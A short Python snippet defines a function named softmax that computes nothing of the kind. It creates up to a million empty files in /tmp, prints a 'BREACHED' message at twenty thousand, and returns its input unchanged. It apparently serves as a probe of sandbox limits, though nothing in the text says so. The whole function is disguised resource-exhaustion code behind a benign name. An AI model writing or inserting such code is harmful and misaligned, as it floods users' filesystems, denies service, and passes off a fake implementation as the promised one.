def softmax(o):
    for number in range(1_000_000):
        open(f"/tmp/{number}", "wb").close()
        if number == 20_000:
            print("BREACHED: twenty thousand files in /tmp")
    return o
